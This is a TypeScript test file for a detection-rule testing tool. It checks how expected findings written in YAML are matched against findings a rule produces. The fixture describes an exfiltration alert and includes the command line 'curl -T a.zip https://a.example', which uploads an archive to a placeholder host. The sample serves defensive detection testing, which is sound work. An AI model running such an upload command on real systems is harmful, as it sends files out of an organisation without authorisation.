import { expect, test } from 'vitest';
import type { Finding } from '../model/finding.ts';
import { compareFindings } from './compare.ts';
import { readTests } from './readTests.ts';
import type { ExpectedFinding } from './ruleTest.ts';

const finding = (changed: Partial<Finding> = {}): Finding => ({
  id: '1',
  rule: { id: 'r', name: 'Rule', version: '' },
  title: 'curl.exe on ws-1 sent 5 B',
  description: 'what is told of it',
  details: { Hosts: ['a', 'b'], User: ['u'], More: ['m'] },
  severity: 'low',
  score: 20,
  reasons: ['the rule itself (20)'],
  confidence: 'medium',
  tactics: ['Exfiltration'],
  techniques: ['T1567.002', 'T1041'],
  firstSeen: 639_080_460_000_000_000n,
  lastSeen: 639_080_460_000_000_000n,
  entities: {
    device: 'ws-1',
    account: '',
    accountDomain: '',
    process: 'curl.exe',
    processFolder: '',
    processSha256: '',
    parentProcess: '',
    commandLine: 'curl -T a.zip https://a.example',
    destination: 'a.example',
  },
  service: '',
  category: '',
  services: [],
  bytesSources: [],
  bytesSent: 5n,
  bytesReceived: null,
  bytesKnown: 1,
  connections: 1,
  evidence: { count: 1, eventIds: ['e1'], sample: [] },
  ...changed,
});

/** Expectations as a file writes them: `- { … }` in YAML. */
function expected(...written: string[]): readonly ExpectedFinding[] {
  const list = written.length === 0 ? ' []' : `\n${written.map((one) => `      - ${one}`).join('\n')}`;
  const text = `tests:\n  - name: x\n    rows: [{ Timestamp: 2026-03-02T09:00:00Z }]\n    expect:${list}\n`;
  return readTests('tests.yaml', text)[0]?.expect ?? expect.fail('no test');
}

const differ = (wanted: readonly ExpectedFinding[], found: readonly Finding[]) =>
  compareFindings(wanted, found).map(({ kind }) => kind);

test.each([
  '{}',
  '{ device: ws-1, process: curl.exe, destination: a.example, service: "" }',
  '{ title: sent 5 B, commandLine: [a.zip, curl], because: [itself], description: told }',
  '{ details: { Hosts: [b, a], User: u } }',
  '{ bytesSent: 5, bytesReceived: null, bytesKnown: 1, connections: 1..2, evidence: ..1 }',
  '{ severity: low, score: 10..30, confidence: medium }',
  '{ techniques: [T1041, T1567.002], tactics: [Exfiltration], services: [] }',
  '{ firstSeen: 2026-03-02T11:00:00Z, lastSeen: 2026-03-02..2026-03-03 }',
])('holds: %s', (written) => {
  expect(differ(expected(written), [finding()])).toEqual([]);
});

test.each([
  '{ device: WS-1, process: curl.exe }',
  '{ title: sent 6 B, service: "" }',
  '{ bytesSent: 6.., service: "" }',
  '{ bytesSent: null, service: "" }',
  '{ bytesReceived: 0, service: "" }',
  '{ bytesReceived: 0.., service: "" }',
  '{ because: [itself, more], service: "" }',
  '{ techniques: [T1041], service: "" }',
  '{ severity: high, service: "" }',
  '{ details: { Hosts: [a] }, service: "" }',
  '{ score: 21..100, service: "" }',
  '{ lastSeen: 2026-03-02T11:00:00.0000001Z.., service: "" }',
])('does not hold: %s', (written) => {
  expect(differ(expected(written), [finding()])).toEqual(['unlike']);
});

test('each finding answers one expectation, even where the first fit would take the wrong one', () => {
  const found = [finding({ service: 'MEGA' }), finding()];
  expect(differ(expected('{ device: ws-1 }', '{ service: MEGA }'), found)).toEqual([]);
  expect(differ(expected('{ service: MEGA }', '{ service: MEGA, device: ws-1 }'), found)).toEqual(['unlike']);
});

test('what is missing is told with what comes nearest, and what is too much is told', () => {
  const found = [finding({ service: 'MEGA' }), finding({ score: 90 })];
  const differences = compareFindings(expected('{ service: Dropbox, score: 90, device: ws-1 }'), found);
  expect(differences).toMatchObject([
    { kind: 'unlike', at: { line: 5, column: 9 }, fields: [{ field: 'service', expected: '"Dropbox"', found: '""' }] },
    { kind: 'surplus', found: { service: 'MEGA' } },
  ]);
});

test('what has nothing in common is not told as near', () => {
  const found = [finding(), finding({ service: 'MEGA' })];
  expect(differ(expected('{ device: ws-2, service: Dropbox }'), found)).toEqual(['missing', 'surplus', 'surplus']);
  expect(differ(expected('{ service: MEGA }'), [])).toEqual(['missing']);
  expect(differ(expected(), found)).toEqual(['surplus', 'surplus']);
});
